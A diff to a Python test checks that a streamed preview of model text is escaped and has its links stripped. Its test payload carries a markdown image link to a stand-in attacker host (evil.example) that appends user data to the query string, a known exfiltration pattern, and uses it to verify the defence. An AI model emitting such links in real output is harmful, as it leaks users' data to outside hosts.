@@ -289,7 +289,8 @@ def test_the_streamed_preview_is_escaped_like_every_model_text(monkeypatch) -> N
 
     payload = ["Bonjour ![logo](http://evil.example/p.png?d=", "Camille) **gras** <b>x</b> [lien](", "http://evil.example)"]
     shown = _streamed_preview(monkeypatch, payload)
-    assert "".join(shown) == md("".join(payload))  # escaping piece by piece is escaping the whole
+    # Escaping piece by piece is escaping the whole; links are left out, as the checked draft leaves them out.
+    assert "".join(shown) == md("Bonjour ![logo]() **gras** <b>x</b> [lien]()")
     assert re.search(r"(?<!\\)[\[\]<>*]", "".join(shown)) is None  # no bracket, tag or star left bare
 
 
